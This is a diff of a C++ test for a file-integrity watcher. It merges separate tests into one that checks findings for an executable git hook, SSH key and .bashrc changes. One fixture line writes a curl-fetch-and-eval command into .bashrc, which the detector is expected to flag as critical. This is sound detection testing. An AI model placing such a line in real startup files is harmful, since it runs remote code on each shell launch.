@@ -1,6 +1,5 @@
-// The rule pack through the live watcher: change words reach the rules (a hook that gains the
-// executable bit, a touch that changes only attributes), an editor's save-by-rename gives one finding
-// per rule, and the watcher finds on the pack's samples exactly what an audit finds.
+// The rule pack through the live watcher: change words reach the rules, and the watcher finds on the
+// pack's samples exactly what an audit finds.
 
 #include "RuleCases.h"
 #include "ScanRunner.h"
@@ -15,75 +14,52 @@ using namespace tw::test;
 
 namespace {
 
-class RulesLive : public ::testing::Test
+// A hook that gains the executable bit is reported; chmod 600 and touch are routine for keys and
+// startup files, a change of their content is not.
+TEST(RulesLive, ChangeWordsReachThePack)
 {
-protected:
-    void SetUp() override
-    {
-        m_watcher = std::make_unique<Watcher>();
-        m_watcher->send({m_tree.path()});
-        ASSERT_TRUE(m_watcher->sync(m_tree.path())) << m_watcher->log();
-    }
-    void TearDown() override { m_watcher.reset(); }
-
-    // Everything written before has been evaluated once a later probe comes back.
-    void settle() { ASSERT_TRUE(m_watcher->sync(m_tree.path())) << m_watcher->log(); }
-    std::vector<WatchLine> found(const fs::path& path, const std::string& rule) const
-    {
-        return m_watcher->linesFor(path.string(), rule);
-    }
-    bool waitFor(const fs::path& path, const std::string& rule) const
-    {
-        return m_watcher->waitForLine(
+    TempDir tree;
+    Watcher watcher;
+    watcher.send({tree.path()});
+    ASSERT_TRUE(watcher.sync(tree.path())) << watcher.log();
+    const auto found = [&](const fs::path& path, const char* rule) {
+        return watcher.linesFor(path.string(), rule);
+    };
+    const auto waitFor = [&](const fs::path& path, const char* rule) {
+        return watcher.waitForLine(
             [&](const WatchLine& l) { return l.path == path.string() && l.rule == rule; });
-    }
-
-    TempDir m_tree;
-    std::unique_ptr<Watcher> m_watcher;
-};
-
-TEST_F(RulesLive, HookGainingTheExecutableBitIsReported)
-{
-    const fs::path hook = m_tree / ".git" / "hooks" / "pre-commit";
+    };
+    const fs::path hook = tree / ".git/hooks/pre-commit";
+    const fs::path keys = tree / ".ssh/authorized_keys";
+    const fs::path bashrc = tree / ".bashrc";
     fs::create_directories(hook.parent_path());
-    writeFile(hook, "#!/bin/sh\nnpx lint-staged\n");
-    settle();
-    EXPECT_TRUE(found(hook, "git_hook_added").empty()) << "git ignores a hook it cannot run";
-
-    fs::permissions(hook, fs::perms::owner_exec, fs::perm_options::add);
-    ASSERT_TRUE(waitFor(hook, "git_hook_added")) << m_watcher->log();
-    const auto hits = found(hook, "git_hook_added");
-    EXPECT_EQ(hits[0].severity, "high");
-    EXPECT_TRUE(hits[0].hasType("attributes"));
-}
-
-// chmod 600 and touch are routine for these files; a change of their content is not.
-TEST_F(RulesLive, AttributeOnlyChangesOfKeysAndStartupFilesStayQuiet)
-{
-    const fs::path keys = m_tree / ".ssh" / "authorized_keys";
-    const fs::path bashrc = m_tree / ".bashrc";
     fs::create_directories(keys.parent_path());
+    writeFile(hook, "#!/bin/sh\nnpx lint-staged\n");
     writeFile(
         keys,
         "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIK0wmN/Cr3JXqmLW7u+g9pTh+wh/j3nVhPYQmmZ9ZqRv dev@laptop\n");
     writeFile(bashrc, "alias ll='ls -la'\n");
-    ASSERT_TRUE(waitFor(keys, "ssh_authorized_key_added")) << m_watcher->log();
-    ASSERT_TRUE(waitFor(bashrc, "shell_startup_file_changed")) << m_watcher->log();
-    settle();
+    ASSERT_TRUE(waitFor(keys, "ssh_authorized_key_added")) << watcher.log();
+    ASSERT_TRUE(waitFor(bashrc, "shell_startup_file_changed")) << watcher.log();
+    ASSERT_TRUE(watcher.sync(tree.path())) << watcher.log();
+    EXPECT_TRUE(found(hook, "git_hook_added").empty()) << "git ignores a hook it cannot run";
     const auto keysBefore = found(keys, "ssh_authorized_key_added").size();
     const auto bashrcBefore = found(bashrc, "shell_startup_file_changed").size();
 
+    fs::permissions(hook, fs::perms::owner_exec, fs::perm_options::add);
     fs::permissions(keys, fs::perms::owner_read | fs::perms::owner_write);
     fs::permissions(bashrc, fs::perms::owner_read | fs::perms::owner_write | fs::perms::group_read);
-    settle();
+    ASSERT_TRUE(waitFor(hook, "git_hook_added")) << watcher.log();
+    EXPECT_EQ(found(hook, "git_hook_added")[0].severity, "high");
+    EXPECT_TRUE(found(hook, "git_hook_added")[0].hasType("attributes"));
+    ASSERT_TRUE(watcher.sync(tree.path())) << watcher.log();
     EXPECT_EQ(found(keys, "ssh_authorized_key_added").size(), keysBefore);
     EXPECT_EQ(found(bashrc, "shell_startup_file_changed").size(), bashrcBefore);
 
     writeFile(bashrc, "alias ll='ls -la'\neval \"$(curl -fsSL https://dots.example.sh/init)\"\n");
-    ASSERT_TRUE(waitFor(bashrc, "shell_startup_runs_payload")) << m_watcher->log();
-    const auto hits = found(bashrc, "shell_startup_runs_payload");
-    EXPECT_EQ(hits[0].severity, "critical");
-    EXPECT_TRUE(hits[0].hasType("modified"));
+    ASSERT_TRUE(waitFor(bashrc, "shell_startup_runs_payload")) << watcher.log();
+    EXPECT_EQ(found(bashrc, "shell_startup_runs_payload")[0].severity, "critical");
+    EXPECT_TRUE(found(bashrc, "shell_startup_runs_payload")[0].hasType("modified"));
 }
 
 // "path rule (severity)" for each finding, the harness's match-everything lines left out.
